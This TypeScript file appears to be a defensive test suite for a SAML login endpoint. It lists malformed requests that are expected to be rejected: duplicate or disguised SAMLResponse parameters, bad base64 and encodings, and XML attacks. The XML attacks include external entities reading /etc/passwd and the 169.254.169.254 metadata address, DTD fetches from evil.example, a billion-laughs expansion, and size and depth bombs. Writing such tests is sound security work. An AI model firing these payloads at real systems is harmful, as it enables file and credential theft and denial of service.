// Forms that two read differently (S7), and documents that cost more than they are worth (S9): refused before anybody parses them.
import { type Attack, post, swap } from './saml-attack.ts'

const body = (text: string) => ({ method: 'POST' as const, query: '', body: text })
const value = encodeURIComponent
const encode = (xml: string | Buffer) => Buffer.from(xml).toString('base64')
// The document is replaced by another.
const send =
  (document: string | Buffer): NonNullable<Attack['bring']> =>
  ({ state }) =>
    post({ SAMLResponse: encode(document), RelayState: state })
const doctype =
  (inner: string, reference = '') =>
  (xml: string) =>
    `<!DOCTYPE Response ${inner}>${xml.replace(/(?<=<saml:NameID>)[^<]*/, all => reference || all)}`
const laughs = Array.from({ length: 10 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join('')
const nested = (depth: number, inner = '') => `${'<samlp:a>'.repeat(depth)}${inner}${'</samlp:a>'.repeat(depth)}`
const extended = (inner: string) => swap('<samlp:Status>', `<samlp:Extensions>${inner}</samlp:Extensions><samlp:Status>`)

const forms: readonly Attack[] = [
  {
    name: 'S7 an answer by redirect',
    reason: 'binding',
    bring: ({ message, state }) => ({ method: 'GET', query: `SAMLResponse=${value(message)}&RelayState=${state}` }),
  },
  {
    name: 'S7 an answer in the query of a POST',
    reason: 'parameters',
    bring: ({ message, state }) => ({ ...body(`RelayState=${state}`), query: `SAMLResponse=${value(message)}` }),
  },
  {
    name: 'S7 a query besides the form',
    reason: 'parameters',
    bring: ({ message, state }) => ({ ...body(`SAMLResponse=${value(message)}&RelayState=${state}`), query: 'x' }),
  },
  {
    name: 'S7 two answers',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&SAMLResponse=${value(message)}&RelayState=${state}`),
  },
  {
    name: 'S7 two states',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&RelayState=${state}&RelayState=${state}`),
  },
  {
    name: 'S7 a second answer, its name encoded',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&%53AMLResponse=${value(message)}&RelayState=${state}`),
  },
  {
    name: 'S7 the answer, its name encoded',
    reason: 'parameters',
    bring: ({ message, state }) => body(`%53AMLResponse=${value(message)}&RelayState=${state}`),
  },
  { name: 'S7 the answer in small letters', reason: 'parameters', bring: ({ message, state }) => body(`samlresponse=${value(message)}&RelayState=${state}`) },
  {
    name: 'S7 a second answer in small letters',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&samlresponse=x&RelayState=${state}`),
  },
  {
    name: 'S7 a second answer for a list',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&SAMLResponse[]=x&RelayState=${state}`),
  },
  {
    name: 'S7 a second answer with a space',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&+SAMLResponse=x&RelayState=${state}`),
  },
  { name: 'S7 no answer', reason: 'parameters', bring: ({ state }) => body(`RelayState=${state}`) },
  { name: 'S7 an empty answer', reason: 'parameters', bring: ({ state }) => body(`SAMLResponse=&RelayState=${state}`) },
  { name: 'S7 an answer without a value', reason: 'parameters', bring: ({ state }) => body(`SAMLResponse&RelayState=${state}`) },
  { name: 'S7 no form', reason: 'parameters', bring: () => ({ method: 'POST', query: '' }) },
  { name: 'S7 no state', reason: 'parameters', bring: ({ message }) => body(`SAMLResponse=${value(message)}`) },
  { name: 'S7 another state', reason: 'parameters', bring: ({ message }) => body(`SAMLResponse=${value(message)}&RelayState=another`) },
  { name: 'S7 a form that is encoded wrong', reason: 'parameters', bring: ({ message, state }) => body(`SAMLResponse=${value(message)}%&RelayState=${state}`) },
  {
    name: 'S7 more fields than a form has',
    reason: 'parameters',
    bring: ({ message, state }) => body(`SAMLResponse=${value(message)}&RelayState=${state}${'&a=b'.repeat(20)}`),
  },
  { name: 'S7 base64 of addresses', reason: 'base64', bring: ({ message, state }) => post({ SAMLResponse: `-_${message.slice(2)}`, RelayState: state }) },
  {
    name: 'S7 base64 with what is none',
    reason: 'base64',
    bring: ({ message, state }) => post({ SAMLResponse: `${message.slice(0, 40)}!${message.slice(40)}`, RelayState: state }),
  },
  {
    name: 'S7 base64 with spaces',
    reason: 'base64',
    bring: ({ message, state }) => post({ SAMLResponse: `${message.slice(0, 40)} ${message.slice(40)}`, RelayState: state }),
  },
  {
    name: 'S7 base64 that is cut off',
    reason: 'base64',
    bring: ({ message, state }) =>
      post({ SAMLResponse: message.replace(/=*$/, '').slice(0, -(message.replace(/=*$/, '').length % 4 || 4) + 1), RelayState: state }),
  },
  { name: 'S7 XML that is not encoded', reason: 'base64', bring: ({ xml, state }) => post({ SAMLResponse: xml, RelayState: state }) },
  {
    name: 'S7 bytes that are no UTF-8',
    reason: 'encoding',
    bring: ({ xml, state }) => post({ SAMLResponse: Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xbc])]).toString('base64'), RelayState: state }),
  },
  { name: 'S7 another encoding', reason: 'processing_instruction', alter: xml => `<?xml version="1.0" encoding="UTF-7"?>${xml}` },
  {
    name: 'S7 UTF-16',
    reason: 'encoding',
    bring: ({ xml, state }) => post({ SAMLResponse: Buffer.from(`\ufeff${xml}`, 'utf16le').toString('base64'), RelayState: state }),
  },
]

const bombs: readonly Attack[] = [
  { name: 'S9 a document type', reason: 'doctype', alter: doctype('') },
  { name: 'S9 a document type in small letters', reason: 'doctype', alter: xml => `<!doctype Response>${xml}` },
  {
    name: 'S9 a document type elsewhere',
    reason: 'doctype',
    alter: (xml, scene) => xml.replace('<saml:Subject>', all => `${doctype('')('')}${all}${scene.state.slice(99)}`),
  },
  { name: 'S9 a file by an entity', reason: 'doctype', alter: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', '&x;') },
  { name: 'S9 an address by an entity', reason: 'doctype', alter: doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/">]', '&x;') },
  { name: 'S9 a document type of elsewhere', reason: 'doctype', alter: doctype('SYSTEM "http://evil.example/x.dtd"') },
  { name: 'S9 an entity for parameters', reason: 'doctype', alter: doctype('[<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]') },
  { name: 'S9 a billion laughs', reason: 'doctype', alter: doctype(`[<!ENTITY l0 "lol">${laughs}]`, '&l10;') },
  { name: 'S9 quadratic growth', reason: 'doctype', alter: doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, '&a;'.repeat(1000)) },
  { name: 'S9 an attribute that is an ID by declaration', reason: 'doctype', alter: doctype('[<!ATTLIST saml:Assertion x ID #IMPLIED>]') },
  { name: 'S9 a declaration without a document type', reason: 'doctype', alter: swap('<saml:Subject>', '<!ENTITY x "y"><saml:Subject>') },
  { name: 'S9 a declaration of no kind', reason: 'malformed', alter: swap('<saml:Subject>', '<!x><saml:Subject>') },
  { name: 'S9 10 MB', reason: 'too_large', bring: send(`<a>${'a'.repeat(10 * 1024 * 1024)}</a>`) },
  { name: 'S9 one byte too many', reason: 'too_large', bring: send('a'.repeat(256 * 1024 + 1)) },
  {
    name: 'S9 10 MB of other fields',
    reason: 'too_large',
    bring: ({ message, state }) => post({ SAMLResponse: message, RelayState: state, a: 'a'.repeat(10 * 1024 * 1024) }),
  },
  { name: 'S9 65 deep', reason: 'too_deep', alter: extended(nested(63)) },
  { name: 'S9 10,000 deep', reason: 'too_deep', alter: extended(nested(10_000)) },
  { name: 'S9 10,000 deep and never closed', reason: 'too_deep', bring: send('<a>'.repeat(10_000)) },
  { name: 'S9 10,000 elements', reason: 'too_many_elements', alter: extended('<samlp:a/>'.repeat(10_000)) },
  {
    name: 'S9 10,000 attributes',
    reason: 'too_many_elements',
    alter: extended(`<samlp:a ${Array.from({ length: 10_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
  },
  {
    name: 'S9 1,000 namespaces',
    reason: 'too_many_elements',
    alter: extended(`<samlp:a ${Array.from({ length: 1000 }, (_, index) => `xmlns:a${index}="b"`).join(' ')}/>`),
  },
  { name: 'S9 a tag of 250,000 characters', reason: 'malformed', bring: send(`<${'a'.repeat(250_000)}`) },
  { name: 'S9 a tag of 200 characters', reason: 'malformed', alter: extended(`<samlp:${'a'.repeat(200)}/>`) },
  { name: 'S9 250,000 spaces in a tag', reason: 'malformed', bring: send(`<a${' '.repeat(250_000)}`) },
  { name: 'S9 250,000 times less than', reason: 'malformed', bring: send('<'.repeat(250_000)) },
  { name: 'S9 250,000 times and', reason: 'entity', bring: send(`<a>${'&'.repeat(250_000)}</a>`) },
  { name: 'S9 a quote that never ends', reason: 'malformed', bring: send(`<a ${'b="'.repeat(60_000)}`) },
  { name: 'S9 an element that never ends', reason: 'malformed', alter: swap('</samlp:Response>', '') },
  { name: 'S9 an end that belongs to another', reason: 'malformed', alter: swap('</samlp:Response>', '</samlp:response>') },
  { name: 'S9 text behind the root', reason: 'malformed', alter: xml => `${xml}text` },
  { name: 'S9 no XML', reason: 'malformed', bring: send('{"admin":true}') },
]

/** All of them. */
export const transportAttacks: readonly Attack[] = [...forms, ...bombs]
